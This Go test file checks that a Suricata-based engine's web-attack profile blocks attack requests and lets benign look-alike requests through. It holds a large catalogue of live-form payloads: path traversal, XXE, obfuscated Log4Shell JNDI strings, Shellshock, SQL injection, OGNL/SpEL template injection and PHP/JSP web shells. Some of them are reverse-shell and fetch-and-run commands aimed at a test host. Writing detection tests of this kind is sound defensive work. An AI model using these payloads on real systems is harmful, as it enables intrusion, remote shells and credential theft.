package suricata

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"bocage.dev/bocage/inspection/profiles"
)

// request is one HTTP request as its sender writes it.
type request struct {
	target  string // as sent: blanks are encoded
	headers string // each line ends with \r\n
	body    string
}

func (r request) String() string {
	method, length := "GET", ""
	if r.body != "" {
		method, length = "POST", fmt.Sprintf("Content-Length: %d\r\n", len(r.body))
	}
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: api\r\n%s%s\r\n%s", method, r.target, r.headers, length, r.body)
}

func target(value string) request { return request{target: "/search?q=" + url.QueryEscape(value)} }
func header(value string) request {
	return request{target: "/", headers: "User-Agent: " + value + "\r\n"}
}
func cookie(value string) request {
	return request{target: "/", headers: "Cookie: s=" + value + "\r\n"}
}
func form(value string) request {
	return request{"/login", "Content-Type: application/x-www-form-urlencoded\r\n", "user=" + url.QueryEscape(value) + "&password=x"}
}
func jsonBody(body string) request {
	return request{"/v1/items", "Content-Type: application/json\r\n", body}
}
func xmlBody(body string) request {
	return request{"/soap", "Content-Type: text/xml\r\n", body}
}

// TestRootStarterBlocksAttacks sends each attack over a connection of its own
// and waits until the engine says that it blocked that connection.
func TestRootStarterBlocksAttacks(t *testing.T) {
	t.Parallel()
	b := newBed(t, 7)
	site := b.serve()
	h := b.run(web(profiles.Starter()["web-attacks"]))
	for name, attacks := range map[string][]request{
		"path traversal": {
			{target: "/../../../../etc/passwd"}, {target: "/static/..%2f..%2f..%2fetc%2fpasswd"},
			{target: "/static/%2e%2e/%2e%2e/etc/shadow"}, {target: "/static/..%5c..%5cwindows%5cwin.ini"},
			{target: "/static/%252e%252e%252fetc%252fpasswd"}, {target: "/static/..%c0%af..%c0%afetc/passwd"},
			{target: "/cgi-bin/.%2e/.%2e/bin/sh"}, {target: "/app/..;/manager/html"},
			target("../../../../etc/passwd"), target("/etc/passwd"), target("/proc/self/environ"),
			target("/root/.ssh/id_rsa"), target("file:///etc/hosts"), target("php://filter/convert.base64-encode/resource=index.php"),
			target("http://169.254.169.254/latest/meta-data/iam/"),
			jsonBody(`{"file":"../../../../etc/passwd"}`), jsonBody(`{"file":"..\/..\/..\/etc\/passwd"}`), form("../../../etc/shadow"),
			xmlBody(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
			xmlBody("<!DOCTYPE a [\n<!ENTITY % x SYSTEM 'http://10.0.0.9/e.dtd'> %x;]><a/>"),
		},
		"look-ups": {
			target("${jndi:ldap://10.0.0.9:1389/a}"), {target: "/?x=${jndi:rmi://10.0.0.9/a}"}, {target: "/$%7Bjndi:dns://x%7D"},
			header("${jndi:ldap://10.0.0.9/a}"), header("${${lower:j}ndi:${lower:l}dap://10.0.0.9/a}"),
			header("${${::-j}${::-n}${::-d}${::-i}:ldap://10.0.0.9/a}"), header("${j${::-n}di:ldap://10.0.0.9/a}"),
			header("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.0.0.9/a}"), header("${JnDi:LdAp://10.0.0.9/a}"),
			target("${${upper:j}ndi:ldap://10.0.0.9/a}"), cookie("${jndi:ldaps://10.0.0.9/a}"), cookie("${${::-j}ndi:dns://a}"),
			form("${jndi:ldap://10.0.0.9/a}"), jsonBody(`{"name":"${jndi:ldap://10.0.0.9/a}"}`),
			jsonBody(`{"name":"${${lower:j}ndi:ldap://10.0.0.9/a}"}`), jsonBody(`{"name":"\u0024\u007bjndi:ldap://10.0.0.9/a}"}`),
			{target: "/", headers: "X-Api-Version: ${jndi:ldap://10.0.0.9/a}\r\n"},
			{target: "/", headers: "Referer: ${${env:BARFOO:-j}ndi:rmi://x/a}\r\n"},
		},
		"commands": {
			header("() { :;}; /bin/bash -c id"), cookie("() { :; }; ping -c 3 10.0.0.9"),
			target("127.0.0.1; cat /etc/hosts"), target("127.0.0.1|id"), {target: "/ping?host=10.0.0.1;id"}, target("a`whoami`"), target("$(id)"), target("$(curl http://10.0.0.9/x)"),
			target("x && wget http://10.0.0.9/x.sh"), target("x\nuname -a"), target("x;sleep 10"), target("x|nc -e /bin/sh 10.0.0.9 99"),
			{target: "/ping?host=8.8.8.8;cat$IFS/etc/hosts"}, {target: "/ping?host=8.8.8.8%7Cbash+-i"},
			target(";python3 -c 'import os'"), target("; powershell -enc SQBFAFgA"), target("& cmd /c dir"),
			target("bash -i >& /dev/tcp/10.0.0.9/99 0>&1"), form("x; cat /etc/hosts"), form("x && ping -c 3 10.0.0.9"),
			form("a`id`"), form("10.0.0.1;id"), jsonBody(`{"host":"8.8.8.8; cat /etc/hosts"}`), jsonBody(`{"host":"$(sleep 10)"}`),
			jsonBody(`{"cmd":"bash -i >& /dev/tcp/10.0.0.9/99 0>&1"}`), header("x; curl http://10.0.0.9/ | sh"),
		},
		"SQL": {
			target("1 UNION SELECT username, password FROM users"), target("x' union all select null,null--"),
			target("1/**/UnIoN/**/SeLeCt/**/1,2,3"), target("' or '1'='1"), target("x' OR 1=1--"), target("1) or (1=1"),
			{target: "/item?id=1%20or%201=1"}, target(`" or "a"="a`), target("1'; DROP TABLE users--"), target("1; select pg_sleep(5)"),
			target("1 and sleep(5)"), target("1'; WAITFOR DELAY '0:0:5'--"), target("x' and extractvalue(1,concat(0x7e,version()))--"),
			target("x' union select table_name from information_schema.tables--"), target("' into outfile '/var/www/x.php'"),
			target("exec master..xp_cmdshell 'dir'"), form("admin' or '1'='1"), form("admin' OR 1=1-- "), form("x') or ('a'='a"),
			form("1' union select null,version()--"), jsonBody(`{"user":"admin' or 1=1--"}`), jsonBody(`{"id":"1' UNION SELECT 1,2,3--"}`),
			form("x'; DROP TABLE users;--"), form("1' and sleep(5)#"),
		},
		"expressions": {
			{target: "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
			{target: "/?class%5B%27classLoader%27%5D.x=y"},
			{"/", "Content-Type: application/x-www-form-urlencoded\r\n", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"},
			{target: "/functionRouter", headers: "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")\r\n", body: "x"},
			target("${T(java.lang.Runtime).getRuntime().exec('id')}"), {target: "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%29%7D/"},
			{target: "/index.action?redirect:%25%7B%23a%3D(new+java.lang.ProcessBuilder('id')).start()%7D"},
			{target: "/", headers: "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}\r\n", body: "x"},
			form("%{#_memberAccess['allowStaticMethodAccess']=true}"), form("#{T(java.lang.Runtime).getRuntime().exec('id')}"),
			jsonBody(`{"t":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>"}`), target("{{''.__class__.__mro__[2].__subclasses__()}}"),
		},
		"web shells": {
			{target: "/uploads/x.php?cmd=whoami"}, {target: "/a/x.jsp?pwd=1&cmd=cat+/etc/hosts"}, {target: "/x.aspx?c=ipconfig"}, {target: "/img/c99.php"},
			{"/upload", "Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php @eval($_POST['x']);?>\r\n--b--\r\n"},
			{"/upload", "", "<?php eval(base64_decode('cGhwaW5mbygpOw=='));"}, {"/upload.jsp", "", `<% Runtime.getRuntime().exec(request.getParameter("c")); %>`},
			{"/x.asp", "", `<%eval request("x")%>`},
		},
	} {
		for _, attack := range attacks {
			conn := b.connect("tcp", "10.0.7.2:80")
			port := uint16(conn.LocalAddr().(*net.TCPAddr).Port)
			conn.SetDeadline(time.Now().Add(patience))
			if _, err := io.WriteString(conn, attack.String()); err != nil {
				t.Fatal(err)
			}
			if answered := answer(conn); answered {
				t.Errorf("%s: an answer came to\n%s", name, attack)
			} else if !h.blockedFrom(port) {
				t.Errorf("%s: no block was reported of\n%s", name, attack)
			}
			conn.Close()
		}
	}
	if len(site.paths) != 0 {
		t.Errorf("reached the server: %q", site.paths)
	}
}

// answer waits for an answer, not long.
func answer(conn net.Conn) bool {
	conn.SetReadDeadline(time.Now().Add(60 * time.Millisecond))
	_, err := conn.Read(make([]byte, 1))
	return err == nil
}

// blockedFrom waits for the event of a block of a connection from the port.
func (h *held) blockedFrom(port uint16) bool {
	deadline := time.After(2 * time.Second)
	for {
		select {
		case e := <-h.events:
			if e.Blocked && e.Flow.SourcePort == port && e.Technique != "" {
				return true
			}
		case <-deadline:
			return false
		}
	}
}

// TestRootStarterPassesOrdinaryRequests sends what ordinary clients send,
// chosen to look as much like an attack as such things do.
func TestRootStarterPassesOrdinaryRequests(t *testing.T) {
	t.Parallel()
	b := newBed(t, 7)
	b.serve()
	h := b.run(web(profiles.Starter()["web-attacks"]))
	ordinary := []request{
		{target: "/"}, {target: "/index.html?utm_source=a&utm_medium=b"}, {target: "/a/../b"}, {target: "/docs/etc/passwords.html"},
		{target: "/v1/users/5?fields=id,name;sort=asc"}, {target: "/items;id=5;color=red/details"}, {target: "/search?tags=dog|cat|id-card"},
		{target: "/v1/users?fields=name,id&sort=name&id"}, {target: "/items?page=2&dir&ls"},
		{target: "/redirect?to=..%2Fhome"}, {target: "/redirect?to=https%3A%2F%2Fshop.example%2Fa%3Fb%3Dc%26d"},
		target("select committee of the european union"), target("Tom & Jerry; cat and mouse"), target("O'Brien or O'Neil"),
		target("rock 'n' roll or jazz"), target("100% cotton; sleep well"), target("what is a jndi lookup?"), target("C:\\Users\\me\\notes.txt"),
		target("how to drop table legs"), target("a = b or c = d"), target("id=5 and name='x'"), target("curl hair | wavy hair"),
		target("if (a && b) { return c; }"), target("whoami.example"), target("price >= 5 && stock < 3"), target("${user.name}"), target("{{ title }}"),
		target("class loader java tutorial"), target("../images/a.png"), target("uname function in C"), target("5 or 6 = 11 things"),
		header("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"), header("curl/8.5.0"), header("Go-http-client/1.1"),
		header("Prometheus/3.1.0"), header("kube-probe/1.33"), header("okhttp/4.12.0 (Linux; U; Android 15; de; sleep mode)"),
		header("python-requests/2.32 id/5; bash completion"),
		{target: "/", headers: "Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nAccept-Language: de-DE,de;q=0.9\r\nAccept-Encoding: gzip, br\r\n"},
		{target: "/", headers: "Authorization: Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2ln\r\nTraceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\n"},
		{target: "/", headers: "Forwarded: for=10.0.0.1;proto=http;by=10.0.0.2\r\nContent-Disposition: inline; filename=\"a;b.txt\"\r\n"},
		cookie("eyJpZCI6NX0=; theme=dark; consent=a|b|c; path=%2Fhome%2Fuser"), cookie("a;id=5;sh=1"),
		form("Jean-Paul d'Or; l'un ou l'autre"), form("p@ss;word|1=1`x"), form("it's 5 = 5, or is it? -- me"), form("Bobby; Drop me a line"),
		form("R&D; cat videos"), form("yes' or no"), form("'quoted' or \"quoted\""), form("#1 choice -- the union; select one"),
		jsonBody(`{"query":"query { user(id: 5) { name, roles } }","variables":{"id":"5"}}`),
		jsonBody(`{"sql":"SELECT id, name FROM items WHERE a = 1 AND b = 'x' ORDER BY id"}`),
		jsonBody(`{"text":"The union may select its delegates; each one sleeps (8 hours)."}`),
		jsonBody(`{"regex":"^(cat|id|ls);?$","path":"/var/log/app.log","cmd":"start"}`),
		jsonBody(`{"message":"at java.lang.Runtime.exec(Runtime.java:450)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1110)"}`),
		jsonBody("{\"code\":\"const f = (x) => { return `${a ? `${b}` : ''}`; };\\nif (x && id) { sleep(5); }\"}"),
		jsonBody(`{"template":"Hello {{ user.name }}, your order #{order} costs ${price}"}`), jsonBody(`{"env":"${HOME:-/root}/bin:${PATH}"}`),
		jsonBody(`{"import":"../../lib/util.js","file":"../assets/logo.svg"}`), jsonBody(`{"log":"user root ran: ls -la /tmp; exit 0"}`),
		jsonBody(`{"fields":"name|id","sort":"name; ls"}`), jsonBody(`{"comment":"I'd say 'yes' or 'no' = 'maybe'; drop in any time -- Tom"}`), jsonBody(`{"a":"x' or y","b":"1=1"}`),
		{"/_bulk", "Content-Type: application/x-ndjson\r\n", "{\"index\":{}}\n{\"message\":\"GET /a?b=c HTTP/1.1\\\" 200; id=5 | cat=dog\"}\n"},
		{"/api/v1/write", "Content-Type: application/x-protobuf\r\nContent-Encoding: snappy\r\n", "\x9a\x01\xf0\x42\x0a\x97\x01\x0a\x1e\x00\xff${\x80`;|"},
		xmlBody(`<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd"><a b="c">d &amp; e; f</a>`),
		xmlBody(`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><id>5</id></soap:Body></soap:Envelope>`),
		{"/upload", "Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php echo htmlspecialchars($name); $x = exec_query($sql); ?>\r\n--b--\r\n"},
		{"/upload", "Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"run.sh\"\r\n\r\n#!/bin/sh\nset -e\ncd /tmp; ls -l | grep x && echo \"$HOME\"\n--b--\r\n"},
		{"/repo.git/git-upload-pack", "Content-Type: application/x-git-upload-pack-request\r\n", "0032want 0a53e9ddeaddad63ad106860237bbf53411d11a7\n00000009done\n"},
		{target: "/apis/apps/v1/namespaces/shop/deployments?labelSelector=app%3Dapi%2Ctier+in+%28a%2Cb%29&watch=true"},
		{target: "/v2/library/nginx/manifests/sha256:0123456789abcdef"}, {target: "/bucket/key%20with%20blank/2026/11/21/file..txt?versionId=a.b-c"},
		{target: "/proc/5/status-page"}, {target: "/.well-known/openid-configuration"}, {target: "/%E2%82%AC/%F0%9F%8C%B3?q=%C3%A9t%C3%A9"},
	}
	conn := b.keepAlive("10.0.7.2:80")
	for _, r := range ordinary {
		conn.conn.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(conn.conn, r.String())
		if got, err := http.ReadResponse(conn.answer, nil); err != nil {
			t.Errorf("%v: %v after\n%s", err, h.titles(), r)
			conn.conn.Close()
			conn = b.keepAlive("10.0.7.2:80")
		} else {
			io.Copy(io.Discard, got.Body)
			got.Body.Close()
		}
	}
	last := target("${jndi:ldap://10.0.0.9/last}")
	end := b.connect("tcp", "10.0.7.2:80")
	io.WriteString(end, last.String())
	for {
		select {
		case e := <-h.events:
			if e.Blocked && int(e.Flow.SourcePort) == end.LocalAddr().(*net.TCPAddr).Port {
				return
			}
			t.Errorf("an ordinary request raised %q", e.Title)
		case <-time.After(patience):
			t.Fatal("the last request raised nothing")
		}
	}
}

func (h *held) titles() string {
	var titles []string
	for {
		select {
		case e := <-h.events:
			titles = append(titles, e.Title)
		default:
			return strings.Join(titles, ", ")
		}
	}
}
